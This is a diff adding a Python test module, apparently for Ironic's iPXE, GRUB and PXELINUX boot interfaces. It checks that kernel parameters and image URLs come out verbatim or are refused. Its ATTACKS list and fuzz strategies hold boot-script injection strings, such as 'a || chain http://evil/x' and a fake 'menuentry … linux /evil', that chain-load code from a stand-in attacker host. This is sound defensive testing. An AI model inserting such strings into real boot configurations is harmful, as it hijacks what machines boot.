@@ -1,0 +1,280 @@
+"""Files of boot programs, judged by readers of their languages: out comes what went in, or it was refused."""
+
+import functools
+import shlex
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+
+from ironic.core.errors import InvalidParameterValue
+from ironic.drivers.modules.netboot import HttpBoot, IPXEBoot, NetworkBoot, PXEBoot
+from ironic.tests import boot_readers
+from ironic.tests.boot_readers import Command
+from ironic.tests.unit.drivers.machine import UUID, Work
+from ironic.tests.unit.drivers.modules.netboot.conftest import machine
+
+BIOS, UEFI = "boot_mode:bios", "boot_mode:uefi"
+SERVICE = {
+    "ipa-api-url": "http://192.0.2.1:6385",
+    "ipa-flag": None,
+    "ipa-text": "two words",
+    "ipa-global-request-id": "req-1",
+}
+SERVICES_WORDS = ["ipa-api-url=http://192.0.2.1:6385", "ipa-flag", "ipa-text=two words", "ipa-global-request-id=req-1"]
+
+
+class Language(NamedTuple):
+    """A boot program, and how it is had by a boot interface."""
+
+    cls: type[NetworkBoot]
+    mode: str
+    root: str
+    read: Callable[[str], list[Command]]
+    keyword: str
+    command_line: Callable[[Command], str]
+    its_own: tuple[str, ...]
+
+
+LANGUAGES = {
+    "ipxe": Language(
+        IPXEBoot,
+        UEFI,
+        "http",
+        boot_readers.ipxe,
+        "kernel",
+        boot_readers.ipxe_command_line,
+        (f"BOOTIF={boot_readers.EXPANDED}", "initrd={purpose}_ramdisk"),
+    ),
+    "grub": Language(
+        HttpBoot,
+        UEFI,
+        "http",
+        boot_readers.grub,
+        "linux",
+        boot_readers.grub_command_line,
+        (f"BOOTIF={boot_readers.EXPANDED}",),
+    ),
+    "pxelinux": Language(
+        PXEBoot, BIOS, "tftp", boot_readers.pxelinux, "append", boot_readers.pxelinux_command_line, ()
+    ),
+}
+
+WHAT_OPERATORS_USE = [
+    'sshkey="ssh-rsa AAAAB3Nza/+x== user@host"',
+    "sshkey='ssh-ed25519 AAAA user@host'",
+    "ip=192.0.2.5::192.0.2.1:255.255.255.0:node-1:eno1:off nameserver=192.0.2.53",
+    "ip=[2001:db8::5]::[2001:db8::1]:64::eno1:off",
+    "console=tty0 console=ttyS0,115200n8 nofb nomodeset vga=normal",
+    "rd.luks.key=/k:UUID=0d8a1c62 rd.driver.blacklist=nouveau modprobe.blacklist=a,b",
+    "foo='a b' quiet",
+    "coreos.inst.ignition_url=https://h/a?b=c&d=e%20f#g coreos.live.rootfs_url=http://h/r;v=1",
+    "ds=nocloud-net;s=http://192.0.2.1:8080/x/ autoinstall",
+    "inst.ks=nfs:192.0.2.1:/ks/{mac}.cfg inst.repo=http://h/$releasever/$basearch",
+    "systemd.unit=rescue.target systemd.mask=dev-sda1.swap systemd.log_level=debug",
+    "isolcpus=1-3,5 hugepagesz=1G default_hugepagesz=1G intel_iommu=on pci=realloc=off",
+    "memmap=4G!12G root=LABEL=a*b? init=/sbin/init -- --user=x",
+    'dyndbg="file drivers/usb/* +p" video=HDMI-A-1:1920x1080@60',
+    "%default% console=ttyS1",
+    "",
+]
+
+# Each is one that some loader, read without quoting, would not take as part of a parameter.
+ATTACKS = [
+    "a || chain http://evil/x ||",
+    "a && shell",
+    "a ; set x y",
+    "a # gone",
+    "a ${net0/ip} ${keep:uristring}",
+    "x=${cwuri}",
+    "x=\\",
+    "x=a\\",
+    "x=\\x20y",
+    "a\nchain http://evil/x",
+    "a\r\nkernel evil",
+    "a\x00b",
+    "a\x0bb",
+    "a\u2028b",
+    "a } menuentry x { linux /evil",
+    "a}",
+    "a;reboot",
+    "$root ${root} $(reboot) `reboot`",
+    "a|b",
+    "a&b",
+    "a>b <c",
+    "it's",
+    'a="it\'s"',
+    "a='say \"x\"'",
+    'a="open',
+    'a=b"c d"e"f g"',
+    "'a'\\''b'",
+    'a="  two"',
+    'a="x || y"',
+    'a="x # y"',
+    "initrd=other/ramdisk",
+    'a="b initrd=../x c"',
+    "x" * 2990,
+    "x" * 3000 + "y",
+    "x" * 4090 + " append evil",
+    "\u00e9" * 2100 + "    kernel evil",
+]
+
+
+def prepared(language: Language, place: Path, text: Any, *, instance: bool) -> str:
+    """Have a machine's file written with these parameters; return it."""
+    boot = language.cls()
+    if instance:
+        task = instance_of(place, language, kernel_append_params=text)
+        boot.validate(task)
+        boot.prepare_instance(task)
+    else:
+        task = machine(
+            properties={"capabilities": language.mode},
+            driver_info={"kernel_append_params": text},
+            instance_info={"kernel_append_params": "a-users || shell"},
+        )
+        boot.validate(task)
+        boot.prepare_ramdisk(task, SERVICE)
+    return (place / language.root / UUID / "config").read_text()
+
+
+def instance_of(place: Path, language: Language, **info: Any) -> Work:
+    images = f"file://{place}/images"
+    named = {"kernel": f"{images}/own-kernel", "ramdisk": f"{images}/own-ramdisk"} if "boot_iso" not in info else {}
+    return machine(
+        properties={"capabilities": language.mode},
+        instance_info={**named, "capabilities": {"boot_option": "ramdisk", "boot_mode": language.mode[10:]}, **info},
+    )
+
+
+def meaning(text: str) -> list[str]:
+    """Part text into words as a kernel command line is read: quotes group, a backslash is a letter."""
+    reader = shlex.shlex(text, posix=True, punctuation_chars=False)
+    reader.whitespace, reader.whitespace_split = " ", True
+    reader.commenters = reader.escape = ""
+    return list(reader)
+
+
+def judged(language: Language, text: str, harmless: str, intended: str, purpose: str) -> None:
+    """Compare a file with a harmless one: the same commands, and exactly the intended parameters."""
+    commands, others = language.read(text), language.read(harmless)
+    (boots,) = (number for number, command in enumerate(others) if command.words[:1] == [language.keyword])
+    assert commands[:boots] + commands[boots + 1 :] == others[:boots] + others[boots + 1 :]
+    assert commands[boots].end == others[boots].end
+    services = SERVICES_WORDS if purpose == "deploy" else []
+    its_own = [word.format(purpose=purpose) for word in language.its_own]
+    expected = meaning(intended.replace("%default%", "nofb vga=normal")) + services + its_own
+    found = meaning(language.command_line(commands[boots]))
+    assert [word for word in found if word] == [word for word in expected if word]
+
+
+def went_through(language: Language, place: Path, text: Any, *, instance: bool) -> bool:
+    """Return whether the file was written; it is right then."""
+    harmless = _harmless(language, place, instance)
+    try:
+        written = prepared(language, place, text, instance=instance)
+    except InvalidParameterValue as error:
+        assert UUID in str(error)
+        assert "kernel_append_params" in str(error)
+        return False
+    judged(language, written, harmless, text, "instance" if instance else "deploy")
+    return True
+
+
+@functools.cache
+def _harmless(language: Language, place: Path, instance: bool) -> str:
+    return prepared(language, place, "harmless", instance=instance)
+
+
+@pytest.mark.parametrize("instance", [True, False])
+@pytest.mark.parametrize("name", LANGUAGES)
+@pytest.mark.parametrize("text", WHAT_OPERATORS_USE)
+def test_what_operators_use_goes_through(place: Path, name: str, text: str, instance: bool) -> None:
+    assert went_through(LANGUAGES[name], place, text, instance=instance)
+
+
+@pytest.mark.parametrize("instance", [True, False])
+@pytest.mark.parametrize("name", LANGUAGES)
+@pytest.mark.parametrize("text", ATTACKS)
+def test_what_a_loader_would_read_as_syntax_is_quoted_or_refused(
+    place: Path, name: str, text: str, instance: bool
+) -> None:
+    went_through(LANGUAGES[name], place, text, instance=instance)
+
+
+SPELLED = st.lists(
+    st.one_of(
+        st.sampled_from(ATTACKS + WHAT_OPERATORS_USE),
+        st.sampled_from(
+            ["||", "&&", ";", "#", "${", "}", "$", "{", "\\", "'", '"', " ", "  ", "=", "x", "&", "|", "--"]
+        ),
+        st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=6),
+    ),
+    max_size=8,
+).map("".join)
+
+
+@pytest.mark.parametrize("name", LANGUAGES)
+@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(text=SPELLED, instance=st.booleans())
+def test_any_parameters_come_out_as_they_went_in_or_are_refused(
+    place: Path, name: str, text: str, instance: bool
+) -> None:
+    went_through(LANGUAGES[name], place, text, instance=instance)
+
+
+# URLs
+
+
+def started(place: Path, url: Any) -> list[Command]:
+    """Have a user's ISO image started; return the commands of the script."""
+    language = LANGUAGES["ipxe"]
+    task = instance_of(place, language, boot_iso=url)
+    IPXEBoot().validate(task)
+    IPXEBoot().prepare_instance(task)
+    return boot_readers.ipxe((place / "http" / UUID / "config").read_text())
+
+
+URLS = st.lists(
+    st.one_of(
+        st.sampled_from(
+            ["${cwuri}", "$", "{", "}", "\\", "#", "||", ";", " ", "?a=b&c=d", "%20", "'", '"', "/x.iso", "\n"]
+        ),
+        st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=6),
+    ),
+    max_size=6,
+).map(lambda parts: "http://images/" + "".join(parts))
+
+
+@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(url=URLS)
+@example(url="http://images/live.iso?a=b&c=d#e;f||g")
+@example(url="http://images/${net0/mac}")
+@example(url="http://images/x\\")
+def test_the_url_of_an_image_is_one_word_or_refused(place: Path, url: str) -> None:
+    try:
+        commands = started(place, url)
+    except InvalidParameterValue as error:
+        assert f"boot_iso of node {UUID}" in str(error)
+    else:
+        assert commands == [Command(["sanboot", url], "")]
+
+
+@pytest.mark.parametrize("url", ["http://images/live.iso?a=b&c=d", "https://u:p@h:8443/a;v=1/b%20c.iso"])
+def test_usual_urls_go_through(place: Path, url: str) -> None:
+    assert started(place, url) == [Command(["sanboot", url], "")]
+
+
+@pytest.mark.parametrize("name", ["kernel", "ramdisk", "boot_iso"])
+def test_no_url_has_anything_to_expand(place: Path, name: str) -> None:
+    task = instance_of(place, LANGUAGES["ipxe"], **{name: "http://images/${net0/ip}/x"})
+    with pytest.raises(InvalidParameterValue, match=rf"{name} of node {UUID} must not have \$\{{"):
+        IPXEBoot().validate(task)
+
+
+def test_an_iso_image_needs_ipxe_and_that_is_said_early(place: Path) -> None:
+    with pytest.raises(InvalidParameterValue, match="without iPXE"):
+        PXEBoot().validate(instance_of(place, LANGUAGES["pxelinux"], boot_iso="http://images/x.iso"))
